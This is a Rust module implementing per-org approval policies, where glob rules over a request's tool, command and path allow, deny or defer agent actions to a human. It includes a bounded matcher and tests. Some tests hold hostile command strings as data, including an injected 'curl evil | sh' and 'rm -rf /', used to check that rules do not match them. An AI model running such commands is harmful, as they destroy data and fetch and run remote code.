//! Approval policies: per org, ordered rules over an approval request's action, tool, command
//! and path that allow or deny it at once, or leave it to a human. `sessions` evaluates the
//! policy inside the write job that records the request, so a decided request never waits.
//!
//! A rule fits a request when its actions name the request's action (or are `*`) and every
//! glob it has fits the matching field of the request's context. Globs match the whole string,
//! `*` any run of characters (`/` included), `?` one character, case-sensitively. The first rule
//! that fits decides; none → the policy's default.

pub mod model;

use std::borrow::Cow;
use std::collections::HashSet;

use serde_json::Value;

use crate::audit;
use crate::auth::Principal;
use crate::clock::SharedClock;
use crate::error::{DomainError, DomainResult, Issue};
use crate::sessions::model::ApprovalAction;
use crate::store::Store;
pub use model::*;

/// An approval request as rules see it: its action and the three fields globs match.
#[derive(Debug, Clone, PartialEq)]
pub struct PolicyRequest<'a> {
    pub action: ApprovalAction,
    /// `context.tool`.
    pub tool: Option<&'a str>,
    /// `context.input.command`: a string, or an array of them joined by spaces.
    pub command: Option<Cow<'a, str>>,
    /// `context.input.path`, else `context.input.file_path`.
    pub path: Option<&'a str>,
}

impl<'a> PolicyRequest<'a> {
    pub fn new(action: ApprovalAction, context: Option<&'a Value>) -> Self {
        let tool = context.and_then(|c| c.get("tool")).and_then(Value::as_str);
        let input = context.and_then(|c| c.get("input"));
        let command = input.and_then(|i| i.get("command")).and_then(|c| match c {
            Value::String(s) => Some(Cow::Borrowed(s.as_str())),
            Value::Array(parts) => Some(Cow::Owned(
                parts
                    .iter()
                    .map(|p| match p {
                        Value::String(s) => Cow::Borrowed(s.as_str()),
                        other => Cow::Owned(other.to_string()),
                    })
                    .collect::<Vec<_>>()
                    .join(" "),
            )),
            _ => None,
        });
        let path = input.and_then(|i| {
            i.get("path")
                .and_then(Value::as_str)
                .or_else(|| i.get("file_path").and_then(Value::as_str))
        });
        Self {
            action,
            tool,
            command,
            path,
        }
    }
}

/// What a policy decided, and which rule decided it (`None`: the default).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Verdict<'p> {
    pub decision: PolicyDecision,
    pub rule_id: Option<&'p str>,
}

impl Verdict<'_> {
    /// `policy:<ruleId>` or `policy:default`: who decided, as an approval records it.
    pub fn decided_by(&self) -> String {
        format!("policy:{}", self.rule_id.unwrap_or("default"))
    }
}

impl PolicyRule {
    /// Whether this rule alone fits the request; `None` when matching ran out of `budget`.
    fn fits_within(&self, req: &PolicyRequest<'_>, budget: &mut u64) -> Option<bool> {
        let action = self
            .actions
            .as_ref()
            .is_none_or(|actions| actions.contains(&req.action));
        if !action {
            return Some(false);
        }
        for (glob, value) in [
            (&self.tool, req.tool),
            (&self.command, req.command.as_deref()),
            (&self.path, req.path),
        ] {
            let fits = match (glob, value) {
                (None, _) => true,
                (Some(_), None) => false,
                (Some(g), Some(v)) => glob_fits(g, v, budget)?,
            };
            if !fits {
                return Some(false);
            }
        }
        Some(true)
    }

    /// Whether this rule alone fits the request (`None`: matching would cost more than
    /// `EVALUATION_STEPS`).
    pub fn fits(&self, req: &PolicyRequest<'_>) -> Option<bool> {
        let mut budget = EVALUATION_STEPS;
        self.fits_within(req, &mut budget)
    }
}

impl ApprovalPolicy {
    /// The first rule that fits decides, else the default. A request that would take more than
    /// `EVALUATION_STEPS` to match (pathological `?` globs over a very long text) is left to a
    /// human: `ask`, whatever the rules say, so no padding can slip a request past a rule.
    pub fn evaluate(&self, req: &PolicyRequest<'_>) -> Verdict<'_> {
        let mut budget = EVALUATION_STEPS;
        for rule in &self.rules {
            match rule.fits_within(req, &mut budget) {
                Some(true) => {
                    return Verdict {
                        decision: rule.decision,
                        rule_id: Some(&rule.id),
                    };
                }
                Some(false) => {}
                None => {
                    return Verdict {
                        decision: PolicyDecision::Ask,
                        rule_id: None,
                    };
                }
            }
        }
        Verdict {
            decision: self.default_decision,
            rule_id: None,
        }
    }

    /// What a saved policy must meet beyond its shape: at most `MAX_RULES` rules with unique
    /// ids of `[a-z0-9_-]{1,64}`, globs of at most `MAX_GLOB_CHARS`, and examples that behave:
    /// every `match` example fits its rule alone, no `notMatch` one does. Every failing example
    /// is named (`rules[i].examples.match[j]`).
    pub fn check(&self, issues: &mut Vec<Issue>) {
        if self.rules.len() > MAX_RULES {
            issues.push(Issue::new(
                "rules",
                format!("must hold at most {MAX_RULES} rules"),
            ));
        }
        let mut seen = HashSet::new();
        for (i, rule) in self.rules.iter().enumerate() {
            if !is_rule_id(&rule.id) {
                issues.push(Issue::new(
                    format!("rules[{i}].id"),
                    "must match ^[a-z0-9_-]{1,64}$",
                ));
            } else if !seen.insert(rule.id.as_str()) {
                issues.push(Issue::new(
                    format!("rules[{i}].id"),
                    format!(
                        "`{}` is the id of an earlier rule; ids must be unique",
                        rule.id
                    ),
                ));
            }
            for (name, glob) in [
                ("tool", &rule.tool),
                ("command", &rule.command),
                ("path", &rule.path),
            ] {
                if glob
                    .as_ref()
                    .is_some_and(|g| g.chars().count() > MAX_GLOB_CHARS)
                {
                    issues.push(Issue::new(
                        format!("rules[{i}].match.{name}"),
                        format!("must be at most {MAX_GLOB_CHARS} characters"),
                    ));
                }
            }
            let Some(examples) = &rule.examples else {
                continue;
            };
            if examples.matches.len() + examples.not_matches.len() > MAX_EXAMPLES_PER_RULE {
                issues.push(Issue::new(
                    format!("rules[{i}].examples"),
                    format!("must hold at most {MAX_EXAMPLES_PER_RULE} examples"),
                ));
                continue;
            }
            for (list, examples, should_fit) in [
                ("match", &examples.matches, true),
                ("notMatch", &examples.not_matches, false),
            ] {
                for (j, example) in examples.iter().enumerate() {
                    let context = example
                        .context_json
                        .as_deref()
                        .and_then(|c| serde_json::from_str::<Value>(c).ok());
                    let req = PolicyRequest::new(example.action, context.as_ref());
                    let path = format!("rules[{i}].examples.{list}[{j}]");
                    match rule.fits(&req) {
                        Some(fits) if fits == should_fit => {}
                        Some(_) if should_fit => issues.push(Issue::new(
                            path,
                            format!("this rule (`{}`) does not fit this example", rule.id),
                        )),
                        Some(_) => issues.push(Issue::new(
                            path,
                            format!(
                                "this rule (`{}`) fits this example, which it must not",
                                rule.id
                            ),
                        )),
                        None => issues.push(Issue::new(
                            path,
                            "matching this example takes too long: shorten it or the rule's globs",
                        )),
                    }
                }
            }
        }
    }
}

/// `[a-z0-9_-]{1,64}`: rule and notification target ids.
pub fn is_rule_id(id: &str) -> bool {
    (1..=64).contains(&id.len())
        && id
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_' || b == b'-')
}

/// Steps the stepwise matcher may take for one evaluation of a policy (all its rules): enough
/// for any real rule over any real command, and a bound on what a pathological glob over a long
/// text can cost the store's writer (about a millisecond).
pub const EVALUATION_STEPS: u64 = 1_000_000;

/// Whether `glob` matches the whole of `text`: `*` any run of characters (`/` included), `?`
/// exactly one character, `\*`, `\?` and `\\` those characters themselves, everything else
/// itself (case-sensitive).
pub fn glob_matches(glob: &str, text: &str) -> bool {
    let mut unlimited = u64::MAX;
    glob_fits(glob, text, &mut unlimited).unwrap_or(false)
}

/// `glob_matches` within a budget of matcher steps, shared by the globs of one evaluation;
/// `None` when it ran out.
fn glob_fits(glob: &str, text: &str, budget: &mut u64) -> Option<bool> {
    if glob.contains(['?', '\\']) {
        return glob_matches_by_steps(glob, text, budget);
    }
    // Literal pieces between stars: the first must start the text, the last end it, and each
    // one between is taken at its leftmost place after the one before (a later place never
    // leaves more room for the rest). `str::find` does the searching, in linear time.
    let Some((head, tail)) = glob.split_once('*') else {
        return Some(glob == text);
    };
    let (middle, last) = tail.rsplit_once('*').unwrap_or(("", tail));
    if text.len() < head.len() + last.len() || !text.starts_with(head) || !text.ends_with(last) {
        return Some(false);
    }
    let mut rest = &text[head.len()..text.len() - last.len()];
    for piece in middle.split('*').filter(|p| !p.is_empty()) {
        match rest.find(piece) {
            Some(at) => rest = &rest[at + piece.len()..],
            None => return Some(false),
        }
    }
    Some(true)
}

#[derive(Clone, Copy, PartialEq)]
enum Token {
    Star,
    Any,
    Byte(u8),
}

/// The glob's token at byte `i`: a star, any one character, or a literal byte (for an escape,
/// the escaped character's first byte), with the index after it.
fn token(p: &[u8], i: usize) -> Option<(Token, usize)> {
    match p.get(i)? {
        b'*' => Some((Token::Star, i + 1)),
        b'?' => Some((Token::Any, i + 1)),
        b'\\' if i + 1 < p.len() => Some((Token::Byte(p[i + 1]), i + 2)),
        &c => Some((Token::Byte(c), i + 1)),
    }
}

/// `glob_matches` for globs with `?` or escapes: step by step, going back only to the last `*`
/// on a mismatch (a later star can only match what an earlier one could). Bytes are compared
/// (an escaped multi-byte character's other bytes follow as plain bytes); `?` and a star's
/// extension step over a whole UTF-8 character, so both stay on character boundaries. Each
/// step costs one unit of `budget`.
fn glob_matches_by_steps(glob: &str, text: &str, budget: &mut u64) -> Option<bool> {
    let (p, t) = (glob.as_bytes(), text.as_bytes());
    let (mut pi, mut ti) = (0, 0);
    // After the last star seen: where the glob goes on, and where in the text its match ends.
    let mut star: Option<(usize, usize)> = None;
    while ti < t.len() {
        *budget = budget.checked_sub(1)?;
        match token(p, pi) {
            Some((Token::Star, next)) => {
                star = Some((next, ti));
                pi = next;
            }
            Some((Token::Any, next)) => {
                pi = next;
                ti += utf8_len(t[ti]);
            }
            Some((Token::Byte(c), next)) if c == t[ti] => {
                pi = next;
                ti += 1;
            }
            _ => match star {
                Some((after_star, st)) => {
                    let resume = st + utf8_len(t[st]);
                    star = Some((after_star, resume));
                    pi = after_star;
                    ti = resume;
                }
                None => return Some(false),
            },
        }
    }
    // The text is used up: what is left of the glob must be stars only.
    while let Some((Token::Star, next)) = token(p, pi) {
        pi = next;
    }
    Some(pi >= p.len())
}

/// The length of the UTF-8 character that starts with `first`.
fn utf8_len(first: u8) -> usize {
    match first {
        0xF0.. => 4,
        0xE0.. => 3,
        0xC0.. => 2,
        _ => 1,
    }
}

/// The approval policies' use-cases: read, replace (checked, audited), dry-run.
#[derive(Clone)]
pub struct PolicyService {
    store: Store,
    clock: SharedClock,
}

impl PolicyService {
    pub fn new(store: Store, clock: SharedClock) -> Self {
        Self { store, clock }
    }

    /// Org tokens of the org and admins; others are refused.
    fn may_see(p: &Principal, org_id: &str) -> DomainResult<()> {
        p.require_org_member_or_admin(org_id, "approval policy")
    }

    /// The org's saved policy, or the default (`ask` for everything).
    pub async fn get(&self, p: &Principal, org_id: &str) -> DomainResult<ApprovalPolicy> {
        Self::may_see(p, org_id)?;
        let org = org_id.to_owned();
        let saved = self.store.read(move |r| r.approval_policy(&org)).await?;
        Ok(saved.map(|p| (*p).clone()).unwrap_or_default())
    }

    /// Replaces the org's policy; refused as a whole (nothing saved) when `check` finds anything.
    pub async fn put(
        &self,
        p: &Principal,
        org_id: &str,
        policy: ApprovalPolicy,
    ) -> DomainResult<ApprovalPolicy> {
        Self::may_see(p, org_id)?;
        let mut issues = Vec::new();
        policy.check(&mut issues);
        if !issues.is_empty() {
            return Err(DomainError::Validation(issues));
        }
        let (who, org, now) = (p.clone(), org_id.to_owned(), self.clock.now_ms());
        let saved = policy.clone();
        self.store
            .write(move |w| {
                w.put_approval_policy(&org, &saved)?;
                audit::record(w, &who, "policy.update", &org, Some(&org), now)
            })
            .await?;
        Ok(policy)
    }

    /// A dry run: what `draft` (or else the saved policy) decides for a request. Changes
    /// nothing and writes no audit entry.
    pub async fn evaluate(
        &self,
        p: &Principal,
        org_id: &str,
        action: ApprovalAction,
        context: Option<Value>,
        draft: Option<ApprovalPolicy>,
    ) -> DomainResult<(PolicyDecision, Option<String>)> {
        let policy = match draft {
            Some(d) => {
                Self::may_see(p, org_id)?;
                d
            }
            None => self.get(p, org_id).await?,
        };
        let verdict = policy.evaluate(&PolicyRequest::new(action, context.as_ref()));
        Ok((verdict.decision, verdict.rule_id.map(str::to_owned)))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use serde_json::json;

    /// The plain recursive reading of the glob rules, to hold the fast matcher to.
    fn reference(p: &[char], t: &[char]) -> bool {
        match p {
            [] => t.is_empty(),
            ['\\', c, rest @ ..] => t.first() == Some(c) && reference(rest, &t[1..]),
            ['*', rest @ ..] => (0..=t.len()).any(|i| reference(rest, &t[i..])),
            ['?', rest @ ..] => !t.is_empty() && reference(rest, &t[1..]),
            [c, rest @ ..] => t.first() == Some(c) && reference(rest, &t[1..]),
        }
    }

    proptest! {
        #[test]
        fn the_matcher_agrees_with_the_plain_rules(
            glob in "[ab*?/é\\\\]{0,8}",
            text in "[ab*?/é\\\\]{0,10}",
        ) {
            let p: Vec<char> = glob.chars().collect();
            let t: Vec<char> = text.chars().collect();
            prop_assert_eq!(glob_matches(&glob, &text), reference(&p, &t));
        }

        #[test]
        fn the_matcher_without_question_marks_agrees_too(
            glob in "[ab*/é]{0,10}",
            text in "[ab/é]{0,12}",
        ) {
            let p: Vec<char> = glob.chars().collect();
            let t: Vec<char> = text.chars().collect();
            prop_assert_eq!(glob_matches(&glob, &text), reference(&p, &t));
        }
    }

    #[test]
    fn globs_match_the_whole_string_case_sensitively() {
        assert!(glob_matches("git status*", "git status --short"));
        assert!(!glob_matches("git status", "git status --short"));
        assert!(glob_matches("src/*", "src/a/b.rs"), "* crosses /");
        assert!(glob_matches("?.rs", "é.rs"), "? is one character");
        assert!(!glob_matches("?.rs", "ab.rs"));
        assert!(!glob_matches("Git*", "git push"));
        assert!(glob_matches("*", ""));
        assert!(!glob_matches("?", ""));
        assert!(
            glob_matches(r"rm -rf build/\*", "rm -rf build/*"),
            "an escaped star is a star"
        );
        assert!(!glob_matches(
            r"rm -rf build/\*",
            "rm -rf build/x; curl evil | sh"
        ));
        assert!(glob_matches(r"a\?b\\", "a?b\\"));
    }

    fn rule(id: &str, decision: PolicyDecision) -> PolicyRule {
        PolicyRule {
            id: id.into(),
            actions: None,
            tool: None,
            command: None,
            path: None,
            decision,
            examples: None,
        }
    }

    #[test]
    fn the_first_rule_that_fits_decides_and_the_default_otherwise() {
        let mut push = rule("no-push", PolicyDecision::Deny);
        push.actions = Some(vec![ApprovalAction::Command]);
        push.command = Some("git push*".into());
        let mut git = rule("git", PolicyDecision::Allow);
        git.command = Some("git *".into());
        let mut edits = rule("src-edits", PolicyDecision::Allow);
        edits.actions = Some(vec![ApprovalAction::FileChange]);
        edits.tool = Some("Edit".into());
        edits.path = Some("src/*".into());
        let policy = ApprovalPolicy {
            rules: vec![push, git, edits],
            default_decision: PolicyDecision::Ask,
        };
        let ask = |action, ctx: Value| {
            let v = policy.evaluate(&PolicyRequest::new(action, Some(&ctx)));
            (v.decision, v.rule_id.map(str::to_owned))
        };
        assert_eq!(
            ask(
                ApprovalAction::Command,
                json!({"input": {"command": ["git", "push", "-f"]}})
            ),
            (PolicyDecision::Deny, Some("no-push".into())),
            "an array command is joined by spaces, and order decides"
        );
        assert_eq!(
            ask(
                ApprovalAction::Command,
                json!({"input": {"command": "git log"}})
            ),
            (PolicyDecision::Allow, Some("git".into()))
        );
        assert_eq!(
            ask(
                ApprovalAction::FileChange,
                json!({"tool": "Edit", "input": {"file_path": "src/a.rs"}})
            ),
            (PolicyDecision::Allow, Some("src-edits".into())),
            "file_path stands in for path"
        );
        assert_eq!(
            ask(
                ApprovalAction::FileChange,
                json!({"tool": "Write", "input": {"path": "src/a.rs"}})
            ),
            (PolicyDecision::Ask, None),
            "every glob must fit: the tool does not"
        );
        assert_eq!(
            ask(ApprovalAction::Network, json!({})),
            (PolicyDecision::Ask, None),
            "a rule with a glob does not fit a request without that field"
        );
    }

    #[test]
    fn a_request_too_costly_to_match_is_left_to_a_human() {
        let mut deny = rule("deny-b", PolicyDecision::Deny);
        deny.command = Some("*?b".into());
        let policy = ApprovalPolicy {
            rules: vec![deny],
            default_decision: PolicyDecision::Allow,
        };
        let ask = |command: String| {
            let ctx = json!({"input": {"command": command}});
            let v = policy.evaluate(&PolicyRequest::new(ApprovalAction::Command, Some(&ctx)));
            (v.decision, v.rule_id.map(str::to_owned))
        };
        assert_eq!(
            ask("ab".into()),
            (PolicyDecision::Deny, Some("deny-b".into()))
        );
        assert_eq!(ask("aa".into()), (PolicyDecision::Allow, None));
        // Padding cannot buy the default's `allow`: past the budget, a human decides.
        assert_eq!(ask("a".repeat(1_000_000)), (PolicyDecision::Ask, None));
    }

    #[test]
    fn examples_that_do_not_behave_are_named() {
        let mut r = rule("git", PolicyDecision::Allow);
        r.command = Some("git *".into());
        let ex = |cmd: &str| PolicyExample {
            action: ApprovalAction::Command,
            context_json: Some(json!({"input": {"command": cmd}}).to_string()),
        };
        r.examples = Some(PolicyExamples {
            matches: vec![ex("git log"), ex("ls")],
            not_matches: vec![ex("rm -rf /"), ex("git push")],
        });
        let dup = rule("git", PolicyDecision::Deny);
        let bad = rule("Bad Id", PolicyDecision::Deny);
        let policy = ApprovalPolicy {
            rules: vec![r, dup, bad],
            default_decision: PolicyDecision::Ask,
        };
        let mut issues = Vec::new();
        policy.check(&mut issues);
        let paths: Vec<&str> = issues.iter().map(|i| i.path.as_str()).collect();
        assert_eq!(
            paths,
            [
                "rules[0].examples.match[1]",
                "rules[0].examples.notMatch[1]",
                "rules[1].id",
                "rules[2].id"
            ]
        );
    }
}
